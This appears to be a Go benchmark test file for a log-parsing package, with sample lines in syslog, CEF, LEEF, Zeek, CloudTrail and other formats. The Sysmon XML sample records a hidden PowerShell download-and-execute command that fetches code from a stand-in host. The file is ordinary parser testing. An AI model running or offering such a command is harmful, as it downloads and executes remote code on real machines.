package parse

import (
	stdjson "encoding/json"
	"strings"
	"testing"

	"prescore/engine/event"
)

// samples are one line of each format, as its source writes it.
var samples = map[string]string{
	"rfc5424": `<165>1 2003-10-11T22:14:15.003Z mymachine.example.com evntslog 8710 ID47 [exampleSDID@32473 iut="3" eventSource="Application" eventID="1011"] An application event log entry for the session of user root on tty7`,
	"rfc3164": `<86>Dec 10 06:55:46 LabSZ sshd[24200]: Failed password for invalid user webmaster from 173.234.31.186 port 38926 ssh2`,
	"logfmt":  `level=info ts=2024-01-15T10:30:00.123Z caller=server.go:120 msg="request finished" method=GET path=/api/v1/items status=200 duration=12.5ms user=alice ip=10.1.2.3`,
	"kv":      `date=2019-05-10 time=11:37:47 logid="0000000013" type="traffic" subtype="forward" level="notice" vd="vdom1" eventtime=1557513467369913239 srcip=10.1.100.11 srcport=58012 srcintf="port12" dstip=23.59.154.35 dstport=80 action="close" policyid=1 service="HTTP" sentbyte=146668 rcvdbyte=328668`,
	"auditd":  `type=SYSCALL msg=audit(1604994496.155:92733): arch=c000003e syscall=59 success=yes exit=0 a0=558e251634a0 a1=558e25162a50 items=2 ppid=29002 pid=1631 auid=1000 uid=1000 gid=1000 euid=1000 tty=pts0 ses=104 comm="arp" exe="/usr/sbin/arp" key=(null)`,
	"cef":     `CEF:0|Palo Alto Networks|PAN-OS|10.1.0|THREAT|url|4|rt=1644865444000 src=172.16.0.5 dst=10.10.10.1 spt=51234 dpt=443 proto=tcp app=web-browsing act=blocked cs1=rule-7 cs1Label=Rule request=https://example.com/a?b\=c msg=Malware detected in file transfer`,
	"leef":    "LEEF:2.0|Lancope|StealthWatch|1.0|41|^|src=192.0.2.0^dst=172.50.123.1^sev=5^cat=anomaly^srcPort=81^dstPort=21^usrName=joe.black^msg=too many connections",
	"clf":     `203.0.113.9 - alice [10/Oct/2023:13:55:36 -0700] "GET /apache_pb.gif?x=1&y=2 HTTP/1.1" 200 2326 "http://www.example.com/start.html" "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/118.0"`,
	"cisco":   `<166>Oct 10 2018 12:34:56 localhost : %ASA-6-302015: Built outbound UDP connection 11758 for outside:100.66.80.32/53 (100.66.80.32/53) to inside:172.31.98.44/56132 (172.31.98.44/56132)`,
	"cri":     `2016-10-06T00:17:09.669794202Z stdout F the container wrote a line of text that is in no format`,
	"json":    jsonSample,
	"winlog_xml": `<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Sysmon' Guid='{5770385F-C22A-43E0-BF4C-06F5698FFBD9}'/><EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime='2025-10-24T23:36:29.111126900Z'/><EventRecordID>18267</EventRecordID><Correlation/><Execution ProcessID='3308' ThreadID='4008'/><Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>ar-win-dc.attackrange.local</Computer><Security UserID='S-1-5-18'/></System><EventData>` +
		`<Data Name='RuleName'>-</Data><Data Name='UtcTime'>2025-10-24 23:36:29.110</Data><Data Name='ProcessGuid'>{5AA13A44-0D74-68FC-EB1D-000000004002}</Data><Data Name='ProcessId'>5624</Data><Data Name='Image'>C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe</Data><Data Name='CommandLine'>powershell.exe -nop -w hidden -c &quot;IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a')&quot;</Data><Data Name='User'>ATTACKRANGE\Administrator</Data><Data Name='ParentImage'>C:\Windows\explorer.exe</Data></EventData></Event>`,
	"panos":       `1,2021/01/20 12:00:00,007200001056,TRAFFIC,end,2049,2021/01/20 12:00:00,192.168.1.10,8.8.8.8,10.0.0.1,8.8.8.8,allow-dns,,,dns,vsys1,trust,untrust,ethernet1/2,ethernet1/1,default,2021/01/20 12:00:00,34,1,51234,53,40000,53,0x400019,udp,allow,180,80,100,2,2021/01/20 11:59:00,30,any,0,1234,0x0`,
	"zeek":        "1693975906.500310\tCPgXGz4Ck2S7ZKzsu8\t192.168.56.30\t62431\t192.168.56.4\t53\tudp\tdns\t0.001578\t39\t55\tSF\tF\tF\t0\tDd\t1\t67\t1\t83\t-",
	"nginx_error": `2021/04/01 13:02:31 [error] 31#31: *1 open() "/usr/share/nginx/html/not-found" failed (2: No such file or directory), client: 172.17.0.1, server: localhost, request: "POST /not-found HTTP/1.1", host: "localhost:8081"`,
}

const jsonSample = `{"eventVersion":"1.08","userIdentity":{"type":"IAMUser","principalId":"AIDAICAK2CN5MGHIIDIHA","arn":"arn:aws:iam::123456789123:user/pedro","accountId":"123456789123","userName":"pedro","sessionContext":{"attributes":{"mfaAuthenticated":"true","creationDate":"2020-09-13T17:16:47Z"}}},"eventTime":"2020-09-14T00:41:05Z","eventSource":"ec2.amazonaws.com","eventName":"DescribeInstanceTypes","awsRegion":"us-east-1","sourceIPAddress":"203.0.113.25","userAgent":"console.ec2.amazonaws.com","requestParameters":{"MaxResults":100,"NextToken":null},"responseElements":null,"requestID":"4e1e6b3b-3d3f-4a4f-9f6e-5a5f3bd5f5b9","eventID":"71c88be9-ea5c-43c7-8c82-02ecb5ec7f09","readOnly":true,"eventType":"AwsApiCall","recipientAccountId":"123456789123","resources":[{"type":"a","ARN":"b\"c"}]}`

// BenchmarkFormats reads a line of each format; ratio is its speed over that of encoding/json on the JSON line in the same run.
func BenchmarkFormats(b *testing.B) {
	var base float64
	b.Run("encoding_json", func(b *testing.B) {
		doc := []byte(jsonSample)
		b.SetBytes(int64(len(doc)))
		for b.Loop() {
			var v map[string]any
			if err := stdjson.Unmarshal(doc, &v); err != nil {
				b.Fatal(err)
			}
		}
		base = float64(len(doc)) * float64(b.N) / b.Elapsed().Seconds()
	})
	for name, text := range samples {
		b.Run(name, func(b *testing.B) {
			r, ev := open(b, Defaults())
			line(r, ev, text)
			if !strings.HasSuffix(ev.Formats, name) && ev.Format != name {
				b.Fatalf("format %q", ev.Formats)
			}
			b.SetBytes(int64(len(text)))
			b.ReportAllocs()
			for b.Loop() {
				line(r, ev, text)
			}
			b.ReportMetric(float64(len(text))*float64(b.N)/b.Elapsed().Seconds()/base, "ratio")
		})
	}
}

// BenchmarkDetect says what finding the format of a line costs.
func BenchmarkDetect(b *testing.B) {
	all := map[string]string{"prose": "the quick brown fox jumps over the lazy dog and then some more text of the usual length", "prose_equals": "retry=3 of the job went on for a while, rc was 7 and the text goes on"}
	for k, v := range samples {
		all[k] = v
	}
	for name, text := range all {
		b.Run(name, func(b *testing.B) {
			r, ev := open(b, Defaults())
			for b.Loop() {
				if f, _ := detect(text); f == fNone {
					r.table(ev, text)
				}
			}
		})
	}
}

var _ = event.New
